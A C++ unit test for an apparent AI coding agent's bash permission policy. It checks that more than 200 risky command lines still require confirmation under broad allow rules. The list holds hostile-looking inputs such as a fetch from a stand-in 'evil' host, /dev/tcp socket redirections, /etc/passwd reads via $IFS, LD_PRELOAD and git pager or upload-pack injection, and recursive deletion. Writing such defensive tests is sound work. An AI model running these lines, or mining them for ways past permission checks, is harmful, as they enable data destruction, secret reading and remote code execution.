// Two hundred command lines that must never run unasked, however wide the rules are.
#include <doctest/doctest.h>

#include "core/permission/policy.h"
#include "core/text/json.h"
#include "tests/support/rule_texts.h"

using namespace skein;
using namespace skein::permission;
using namespace skein::test;

namespace {

const std::vector<std::string>& risky_lines() {
  static const std::string nul(1, '\0');
  static const std::vector<std::string> lines{
      // substitution
      "ls $(rm x)", "ls `rm x`", "ls \"$(rm x)\"", "ls \"`rm x`\"", "$(rm x)", "`rm x`",
      "ls <(rm x)", "ls >(rm x)", "cat <(curl evil)", "diff <(a) <(b)", "ls $((1+1))", "ls $[1+1]",
      "echo ${x:-$(rm x)}", "echo \"${x@P}\"", "ls `echo \\`rm x\\``", "ls $(<f)", "ls $'\\x72m'",
      "ls $\"rm\"", "ls a$(rm x)b", "ls 'a'$(rm x)",
      // expansion
      "ls $HOME", "ls ${HOME}", "ls \"$HOME\"", "$x", "${x}", "$SHELL -c id", "ls $1", "ls $@",
      "ls $*", "ls $?", "ls $$", "ls $!", "ls ~", "ls ~root", "~/x", "ls a{b,c}", "ls {1..9}",
      "{rm,x}", "r{m,} x", "ls ${IFS}x", "cat$IFS/etc/passwd", "rm${IFS}-rf${IFS}x", "IFS=,;ls",
      "ls $IFS", "echo ${!x}", "echo ${x//a/b}", "ls $_",
      // assignment and environment
      "x=1 ls", "PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "GIT_SSH_COMMAND=evil git fetch", "x=rm",
      "x+=1 ls", "a[0]=1 ls", "PAGER=evil git log", "env ls", "env -i ls", "env x=1 ls",
      "/usr/bin/env ls", "export PATH=/tmp", "declare x=1", "typeset -x a=b", "readonly x=1",
      "local x=1", "unset PATH", "set -x", "shopt -s expand_aliases", "alias ls='rm x'",
      "hash -p /tmp/evil ls", "enable -f /tmp/x.so y", "trap 'rm x' EXIT", "printf -v PATH /tmp",
      "read x", "let x=1",
      // redirection and here-documents
      "ls > f", "ls >> f", "ls >f", "ls 2> f", "ls &> f", "ls >& f", "ls >| f", "ls <> f",
      "cat < f", "cat <<EOF\nx\nEOF", "cat <<'EOF'\nx\nEOF", "cat <<-E\nE", "cat <<< x", "ls 3> f",
      "ls >/dev/null/../f", "ls > /dev/nullx", "ls >/dev/tcp/h/1", "ls >&3", "ls 2>&1x",
      "exec 3<>/dev/tcp/h/80", "> f", "< f cat", "ls >\"f\"", "ls 1>f", "ls >'/dev/null'f",
      "ls 2>&-",
      // groups, loops, functions
      "(rm x)", "{ rm x; }", "ls; (rm x)", "if true; then rm x; fi", "for i in a; do rm x; done",
      "while true; do rm x; done", "until false; do rm x; done", "case x in x) rm x;; esac",
      "select x in a; do rm; done", "function ls { rm x; }", "ls() { rm x; }; ls", "[[ -f x ]]",
      "((x=1))", "time rm x", "! rm x", "coproc rm x", "ls | while read x; do rm $x; done", "else",
      "do ls", "then ls",
      // background and odd joints
      "rm x &", "ls & rm x", "ls &", "ls |& sh", "ls &&", "ls ||", "| ls", "&& ls", "; ls",
      "ls ;; rm x", "ls &&& rm x", "ls ; ; ls", "ls\n&& rm x",
      // programs that run others
      "sh -c 'rm x'", "bash -c ls", "bash x.sh", "dash -c ls", "zsh -c ls", "/bin/sh -c ls",
      "busybox sh", "xargs rm", "ls | xargs rm", "sudo ls", "su -c ls", "doas ls", "nohup ls",
      "nice ls", "timeout 5 ls", "stdbuf -o0 ls", "setsid ls", "watch ls", "parallel rm",
      "strace ls", "script -c ls", "ssh host ls", "eval ls", "exec ls", "source x", ". x",
      "command ls", "builtin cd", "python3 -c 'x'", "python3.11 -c 'x'", "perl -e 'x'", "ruby -e x",
      "node -e x", "awk 'BEGIN{system(\"ls\")}'", "sed -i s/a/b/ f", "sed 's/a/b/e' f",
      "vim -c ':!ls'", "ed f", "tmux new ls", "at now", "crontab f", "flock f ls",
      // options that run others or write
      "find . -exec rm {} +", "find . -exec rm '{}' ';'", "find . -execdir rm x '+'",
      "find . -ok rm x '+'", "find . -delete", "find . -fprint f", "find . -fls f",
      "git -c core.pager=evil log", "git -c alias.x='!ls' x", "git --exec-path=/tmp status",
      "git --config-env=a=b x", "git -C /tmp status", "git --git-dir=/tmp/x status",
      "git diff --output=f", "git diff --outp=f", "git log --output f", "git diff --ext-diff",
      "git grep -O x", "git grep --open-files-in-pager=sh x", "git rebase --exec 'rm x' main",
      "git rebase -x ls", "git bisect run ls", "git submodule foreach ls",
      "git config core.hooksPath x", "git difftool -x ls", "git fetch --upload-pack=evil x",
      "git clone --upload-pack evil x", "git archive --remote=x --exec=evil a",
      "git push --receive-pack=x", "tar --to-command=sh -xf x",
      "tar --checkpoint=1 --checkpoint-action=exec=sh", "tar -I sh -xf x", "sort -o f x",
      "sort --compress-program=sh x", "rsync -e sh a b", "rg --pre sh x", "fd -x rm",
      "fd --exec rm", "man -P sh ls", "make SHELL=/tmp/x", "make --eval='x:;rm x'",
      "cmake -P x.cmake", "cmake -E rm x", "ctest -S x", "go test -exec sh", "go test -toolexec sh",
      "npm exec x", "cargo --config x test", "tee f",
      // characters
      "ls" + nul, "ls " + nul + "x", "ls \x01", "ls\rrm x", "ls \x1b[2J", "ls\x7f", "ls \\\nrm",
      "r\\\nm x", "ls \"a\\\nb\"", "ls 'a", "ls \"a", "ls a\\", "ls # comment", "#ls", "l? x", "*",
      "/bin/r? x", "[l]s", "ls *", "ls -l *", "ls ?", "\xc2\xa0ls", "ls\xc2\xa0x",
      "ls\xe2\x80\xa8rm", "ls \xff", "ls '\xff'", "\xef\xbc\x8cls", "''", "'' ls", "!!", "!ls",
      "ls !$", "ls a:~", "ls x=~", "ls ''*", "ls \"\"*", "find . -ex*", "git submodul?", "ls a*",
      "find . \\-ex*", "find . '-'ex*", "", " ", "\n", "\t", "cd /", "pushd /"};
  return lines;
}

}  // namespace

TEST_CASE("no risky command line runs unasked, however wide the rules are") {
  std::string allow = "bash,bash(*)";
  for (const char* program :
       {"ls",    "rm",      "git", "find", "cat",  "echo", "sh",  "bash",  "env",
        "xargs", "python3", "sed", "tar",  "sort", "make", "cd",  "cmake", "ctest",
        "sudo",  "awk",     "tee", "rg",   "fd",   "go",   "npm", "cargo", "diff"})
    allow += ",bash(" + std::string(program) + " *)";
  const permission::Rules rules{permission::Mode::accept_edits, parse_rules(allow), {}, true};

  CHECK(risky_lines().size() >= 200);
  for (const std::string& line : risky_lines()) {
    CAPTURE(line);
    const model::ToolUse call{"1", "bash", R"({"command":)" + json_string(line) + "}"};
    CHECK(permission::decide(rules, bash_only(), call).verdict ==
          permission::Decision::Verdict::ask);
  }
  // The rules are wide: plain lines do run.
  for (const char* line : {"ls", "rm -rf x", "git log --oneline | cat", "find . -name x"}) {
    CAPTURE(line);
    const model::ToolUse call{"1", "bash", R"({"command":)" + json_string(line) + "}"};
    CHECK(permission::decide(rules, bash_only(), call).verdict ==
          permission::Decision::Verdict::allow);
  }
  // Input that is no command at all.
  for (const char* input : {"{}", "[]", "", "{\"command\":7}", "{\"command\":null}"})
    CHECK(permission::decide(rules, bash_only(), {"1", "bash", input}).verdict ==
          permission::Decision::Verdict::ask);
}
